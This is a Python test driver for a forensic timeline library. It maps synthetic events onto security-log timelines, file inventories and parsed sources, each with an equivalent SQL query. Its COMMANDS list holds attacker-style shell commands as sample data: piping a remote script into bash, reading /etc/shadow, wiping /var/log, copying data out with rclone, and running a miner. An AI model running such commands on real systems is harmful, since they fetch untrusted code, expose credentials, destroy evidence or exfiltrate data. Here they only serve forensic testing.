"""Driver tables as timelines, snapshots and inventories, and the same in SQL."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from emberlog.operators.timeline import to_timeline
from emberlog.session import prepare

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}
ORACLES: dict[str, str] = {}

#: Commands that events stand for, by id.
COMMANDS = (
    "curl http://10.0.0.9/a.sh | bash", "chmod +x /tmp/run", "tar czf /tmp/b.tgz /etc", "ls -la", "crontab -e", "nmap -sV 10.0.0.0/24", "ssh root@10.1.1.1", "cat /etc/shadow", "xmrig -o pool", "Passw0rd!x", "mysqldump all", "rm -rf /var/log", "rclone copy /srv remote:x",
)
ACTIONS = {"error": "ssh_login_failure", "signup": "ssh_login_success", "purchase": "sudo_command", "click": "shell_command", "view": "http_request"}
CATEGORIES = {"error": "authentication", "signup": "authentication", "purchase": "privilege", "click": "execution", "view": "web"}
SEVERITY = {"error": "low", "signup": "medium", "purchase": "high", "click": "informational", "view": "informational"}


def query(sql: str | None = None) -> Callable[[Query], Query]:
    """Register a query under its function's name, with SQL that gives the same rows."""

    def add(f: Query) -> Query:
        QUERIES[f.__name__] = lambda spark, sf_dir: f(prepare(spark), sf_dir)
        if sql is not None:
            ORACLES[f.__name__] = sql
        return f

    return add


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def at(column: Column | str) -> Column:
    return F.date_format(column, "yyyy-MM-dd HH:mm:ss")


def csv(column: Column | str) -> Column:
    return F.array_join(column, ",")


def _case(values: dict[str, str]) -> Column:
    return F.coalesce(*(F.when(F.col("event_type") == k, F.lit(v)) for k, v in values.items()))


def timeline(spark: SparkSession, sf_dir: str, events: DataFrame | None = None) -> DataFrame:
    """``events``, or a stream of its rows, as a timeline of three collections."""
    e = (table(spark, sf_dir, "events") if events is None else events).withColumn("n", F.col("event_id"))
    user, ts = F.col("user_id"), F.date_trunc("second", F.col("ts").cast("timestamp"))
    command = F.when(F.col("event_type").isin("click", "purchase"), F.element_at(F.array(*map(F.lit, COMMANDS)), (F.col("n") % len(COMMANDS) + 1).cast("int")))
    text = lambda *p: F.concat(*(F.lit(x) if isinstance(x, str) else x.cast("string") for x in p))
    mapping = {
        "event_id": text("e", F.col("n")), "timestamp": ts, "event_action": _case(ACTIONS), "event_category": _case(CATEGORIES), "severity": _case(SEVERITY), "user": text("u", user), "src_ip": text("10.0.", user % 7, ".", user % 50), "collection_id": text("c", user % 3), "host": text("h", user % 5), "port": text(F.col("n") % 1000 + 1),
        "command": command, "evidence_role": F.when(F.col("event_type") == "view", "state_observation").otherwise("behavior"), "source_path": text("var/log/", F.col("event_type")), "source_type": F.when(F.col("event_type") == "click", "shell_history").when(F.col("event_type") == "view", "web_log").otherwise("auth_log"), "timestamp_type": F.lit("log_time"), "confidence": F.when(F.col("n") % 4 == 0, "high").otherwise("medium"), "raw": text(F.col("event_type"), " ", F.col("n")), "parser": F.lit("events"),
    }
    return to_timeline(e, mapping)


def _sql_case(values: dict[str, str]) -> str:
    return "CASE event_type " + " ".join(f"WHEN '{k}' THEN '{v}'" for k, v in values.items()) + " END"


_COMMAND_SQL = "CASE WHEN event_type IN ('click', 'purchase') THEN list_extract([" + ", ".join(f"'{c}'" for c in COMMANDS) + f"], (event_id % {len(COMMANDS)} + 1)::INT) END"
#: The timeline of ``events`` as a SQL table named tl.
TL = f"""tl AS (
  SELECT 'e' || event_id AS event_id, event_id AS n, date_trunc('second', ts) AS ts, strftime(date_trunc('second', ts), '%Y-%m-%d %H:%M:%S') AS at_text,
    {_sql_case(ACTIONS)} AS event_action, {_sql_case(CATEGORIES)} AS event_category, {_sql_case(SEVERITY)} AS severity,
    'u' || user_id AS usr, '10.0.' || (user_id % 7) || '.' || (user_id % 50) AS src_ip, 'c' || (user_id % 3) AS collection_id, 'h' || (user_id % 5) AS host,
    (event_id % 1000 + 1)::VARCHAR AS port, {_COMMAND_SQL} AS command, CASE event_type WHEN 'view' THEN 'state_observation' ELSE 'behavior' END AS evidence_role,
    'var/log/' || event_type AS source_path, CASE event_type WHEN 'click' THEN 'shell_history' WHEN 'view' THEN 'web_log' ELSE 'auth_log' END AS source_type,
    CASE WHEN event_id % 4 = 0 THEN 'high' ELSE 'medium' END AS confidence, event_type || ' ' || event_id AS raw, event_type
  FROM events
)"""


def inventory(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``supplier`` as files of three collections."""
    s = table(spark, sf_dir, "supplier")
    key = F.col("s_suppkey")
    return s.select(F.concat(F.lit("c"), (key % 3).cast("string")).alias("collection_id"), F.concat(F.lit("etc/f"), F.floor(key / 3).cast("string")).alias("relative"), (key % 7).cast("long").alias("size"), F.sha2(F.floor(key / 3).cast("string"), 256).alias("sha256"), F.when(key % 4 == 0, "unsupported").otherwise("pending").alias("coverage_status"), key.alias("key"))


INV = """inv AS (
  SELECT 'c' || (s_suppkey % 3) AS collection_id, 'etc/f' || (s_suppkey // 3) AS relative, s_suppkey % 7 AS size, sha256((s_suppkey // 3)::VARCHAR) AS sha256,
    CASE WHEN s_suppkey % 4 = 0 THEN 'unsupported' ELSE 'pending' END AS coverage_status, s_suppkey AS key FROM supplier
)"""


def sources(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``customer`` as parsed sources."""
    key = F.col("c_custkey")
    return table(spark, sf_dir, "customer").select(F.concat(F.lit("etc/f"), F.floor(key / 3).cast("string")).alias("relative"), F.concat(F.lit("c"), (key % 3).cast("string")).alias("collection_id"), F.element_at(F.array(*map(F.lit, ("auth_log", "auditd", "passwd", "web_log"))), (key % 4 + 1).cast("int")).alias("source_type"), F.element_at(F.array(*map(F.lit, ("parsed", "error", "unsupported", "partially_parsed", "parsed"))), (key % 5 + 1).cast("int")).alias("parser_status"), (key % 11).cast("long").alias("event_count"))


SRC = """src AS (
  SELECT 'etc/f' || (c_custkey // 3) AS relative, 'c' || (c_custkey % 3) AS collection_id, list_extract(['auth_log', 'auditd', 'passwd', 'web_log'], (c_custkey % 4 + 1)::INT) AS source_type,
    list_extract(['parsed', 'error', 'unsupported', 'partially_parsed', 'parsed'], (c_custkey % 5 + 1)::INT) AS parser_status, c_custkey % 11 AS event_count FROM customer
)"""


def annotations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A log of annotations on the purchases: several for an event."""
    e = table(spark, sf_dir, "events").where("event_type = 'purchase'")
    n = F.col("event_id")
    twice = e.select(n.alias("n"), F.explode(F.array(F.lit(0), F.lit(1))).alias("k"), F.date_trunc("second", F.col("ts").cast("timestamp")).alias("ts"))
    return twice.select(F.concat(F.lit("e"), F.col("n").cast("string")).alias("event_id"), F.array(F.concat(F.lit("Tag "), (F.col("n") % 5).cast("string")), F.concat(F.lit("tag "), (F.col("n") % 5).cast("string"))).alias("tags"), F.when(F.col("k") == 1, F.concat(F.lit("note "), F.col("n").cast("string"))).otherwise("first").alias("note"), F.when(F.col("n") % 3 == 0, "benign").otherwise("odd").alias("disposition"), (F.col("n") % 2 == 0).alias("include_in_summary"), (F.col("ts") + F.make_interval(days=F.col("k"))).alias("updated_at"))
